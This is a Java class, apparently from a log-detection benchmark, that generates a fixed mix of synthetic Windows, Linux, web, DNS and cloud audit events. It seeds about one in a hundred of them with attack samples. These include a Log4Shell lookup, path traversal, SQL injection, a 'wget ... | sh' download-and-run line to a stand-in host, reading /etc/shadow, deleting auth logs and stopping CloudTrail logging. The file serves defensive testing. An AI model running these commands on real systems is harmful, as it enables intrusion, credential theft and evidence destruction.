package org.pehra.bench.match;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * What an institution with servers, web sites and cloud accounts sends: of 100 events 45 of
 * Windows, 20 of Linux, 15 of web servers, 8 of name servers and 12 of clouds, 60,000 in all. One
 * in a hundred of the latter four is an attack. Stored as our connectors store them; always the
 * same.
 */
final class MixedEvents {
  private static final int EVENTS = 60_000;
  private static final List<String> USERS =
      List.of("ayesha", "bilal", "deploy", "farah", "hamza", "root", "sana", "svc-backup", "usman");
  private static final List<String> PATHS =
      List.of("/", "/login", "/api/v1/accounts", "/api/v1/transfers", "/assets/app.js", "/branch");
  private static final List<String> AGENTS =
      List.of(
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/131.0.0.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15",
          "okhttp/4.12.0");
  private static final List<String> DOMAINS =
      List.of("mail.example.com", "cdn.example.net", "time.example.org", "updates.example.com");
  private static final List<String> WEB_ATTACKS =
      List.of(
          "/?q=${jndi:ldap://198.51.100.9/a}",
          "/index.php?page=../../../../etc/passwd",
          "/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
          "/cgi-bin/test?x=whoami");
  private static final List<String> SHELL_ATTACKS =
      List.of("cat /etc/shadow", "wget http://198.51.100.9/x -O- | sh", "rm -f /var/log/auth.log");
  private static final List<String> AWS_CALLS =
      List.of("ec2:DescribeInstances", "s3:GetObject", "sts:AssumeRole", "kms:Decrypt");
  private static final List<String> AWS_ATTACKS =
      List.of("cloudtrail:StopLogging", "iam:CreateAccessKey", "ec2:ModifySnapshotAttribute");

  private final Random random = new Random(5);
  private final Stored auto = new Stored("auto");
  private final Stored windows = new Stored("windows-json");

  private MixedEvents() {}

  static List<byte[]> of(List<byte[]> campaign) {
    var mixed = new MixedEvents();
    List<byte[]> events = new ArrayList<>(EVENTS);
    for (int i = 0; i < EVENTS; i++) {
      int kind = mixed.random.nextInt(100);
      events.add(
          kind < 45
              ? mixed.windows.event(campaign.get(mixed.random.nextInt(campaign.size())), Map.of())
              : kind < 65
                  ? mixed.linux()
                  : kind < 80 ? mixed.web() : kind < 88 ? mixed.names() : mixed.cloud());
    }
    return events;
  }

  private byte[] linux() {
    return switch (random.nextInt(6)) {
      case 0, 1 -> ssh();
      case 2 ->
          syslog(
              "sudo",
              "%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/%s"
                  .formatted(
                      user(), random.nextInt(9), user(), shell("systemctl status app-" + id())));
      case 3 -> syslog("CRON", "(root) CMD (%s)".formatted(shell("/usr/lib/sysstat/sa1 1 1")));
      default -> audit();
    };
  }

  private byte[] ssh() {
    var form =
        random.nextInt(4) > 0
            ? "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s"
            : "Failed password for invalid user %s from %s port %d ssh2 %s";
    return syslog(
        "sshd", form.formatted(user(), address(), 1024 + random.nextInt(60_000), id() + id()));
  }

  private byte[] syslog(String program, String message) {
    return auto.event(
        message.getBytes(UTF_8),
        Map.of("log.syslog.appname", program, "host.name", "srv-" + random.nextInt(200)));
  }

  private byte[] audit() {
    var command = shell("ls -la /srv/data/" + id()).split(" ");
    var arguments = new StringBuilder();
    for (int i = 0; i < command.length; i++) {
      arguments.append(",\"a%d\":\"%s\"".formatted(i, command[i]));
    }
    return json(
        "linux.auditd",
        random.nextBoolean()
            ? "\"type\":\"EXECVE\",\"argc\":%d%s,\"host\":{\"name\":\"srv-%d\"}"
                .formatted(command.length, arguments, random.nextInt(200))
            : "\"type\":\"SYSCALL\",\"syscall\":\"openat\",\"exe\":\"/usr/bin/%s\",\"comm\":\"%s\",\"key\":\"access\",\"auid\":\"%d\""
                .formatted(command[0], command[0], 1000 + random.nextInt(50)));
  }

  private byte[] web() {
    var path = attack() ? any(WEB_ATTACKS) : any(PATHS) + "?s=" + id();
    var line =
        "%s - - [10/Jan/2026:10:%02d:%02d +0500] \"%s %s HTTP/1.1\" %d %d \"https://bank.example/\" \"%s\""
            .formatted(
                address(),
                random.nextInt(60),
                random.nextInt(60),
                random.nextInt(5) == 0 ? "POST" : "GET",
                path,
                random.nextInt(12) == 0 ? 404 : 200,
                random.nextInt(90_000),
                any(AGENTS));
    return auto.event(line.getBytes(UTF_8), Map.of("host.name", "web-" + random.nextInt(9)));
  }

  private byte[] names() {
    var name =
        attack()
            ? "aaa.stage." + id() + ".example.onion"
            : random.nextInt(3) == 0 ? id() + ".example.com" : any(DOMAINS);
    return json(
        "dns.recursor",
        "\"dns\":{\"question\":{\"name\":\"%s\",\"type\":\"A\"}},\"source\":{\"ip\":\"%s\"}"
            .formatted(name, address()));
  }

  private byte[] cloud() {
    boolean attack = attack();
    return switch (random.nextInt(4)) {
      case 0, 1 -> {
        var call = any(attack ? AWS_ATTACKS : AWS_CALLS).split(":");
        yield json(
            "aws.cloudtrail",
            ("\"eventSource\":\"%s.amazonaws.com\",\"eventName\":\"%s\",\"awsRegion\":\"eu-west-1\","
                    + "\"sourceIPAddress\":\"%s\",\"userAgent\":\"aws-cli/2.15.0\",\"userIdentity\":{"
                    + "\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::123456:user/%s\"},\"requestParameters\":"
                    + "{\"instanceId\":\"i-%s\"}")
                .formatted(call[0], call[1], address(), user(), id()));
      }
      case 2 ->
          json(
              "azure.activitylogs",
              "\"operationName\":\"%s\",\"Category\":\"Administrative\",\"ResultType\":\"Success\",\"caller\":\"%s@bank.example\",\"correlationId\":\"%s\""
                  .formatted(
                      attack
                          ? "MICROSOFT.KEYVAULT/VAULTS/DELETE"
                          : "MICROSOFT.COMPUTE/VIRTUALMACHINES/READ",
                      user(),
                      id()));
      default ->
          json(
              random.nextBoolean() ? "gcp.audit" : "m365.audit",
              "\"gcp\":{\"audit\":{\"method_name\":\"%s\"}},\"Operation\":\"%s\",\"UserId\":\"%s@bank.example\",\"ObjectId\":\"%s\""
                  .formatted(
                      attack ? "storage.buckets.delete" : "storage.objects.get",
                      attack ? "Disable-MailboxRule" : "FileAccessed",
                      user(),
                      id()));
    };
  }

  private byte[] json(String dataset, String fields) {
    var text = "{\"data_stream\":{\"dataset\":\"%s\"},%s}".formatted(dataset, fields);
    return auto.event(text.getBytes(UTF_8), Map.of());
  }

  private String shell(String usual) {
    return attack() ? any(SHELL_ATTACKS) : usual;
  }

  private boolean attack() {
    return random.nextInt(100) == 0;
  }

  private String user() {
    return any(USERS);
  }

  private String address() {
    return "10.%d.%d.%d".formatted(random.nextInt(4), random.nextInt(256), random.nextInt(256));
  }

  private String id() {
    return String.format(Locale.ROOT, "%08x", random.nextInt());
  }

  private String any(List<String> of) {
    return of.get(random.nextInt(of.size()));
  }
}
